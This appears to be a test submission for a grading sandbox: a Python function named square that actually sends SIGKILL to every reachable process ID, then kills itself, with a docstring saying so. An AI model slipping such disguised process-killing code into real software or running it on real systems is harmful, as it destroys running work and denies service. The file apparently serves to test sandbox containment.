"""The code kills all processes that it can reach."""
# points: 0 0

import os
import signal


def square(x):
    for number in range(1, 1 << 16):
        try:
            if number != os.getpid():
                os.kill(number, signal.SIGKILL)
        except OSError:
            pass
    os.kill(os.getpid(), signal.SIGKILL)
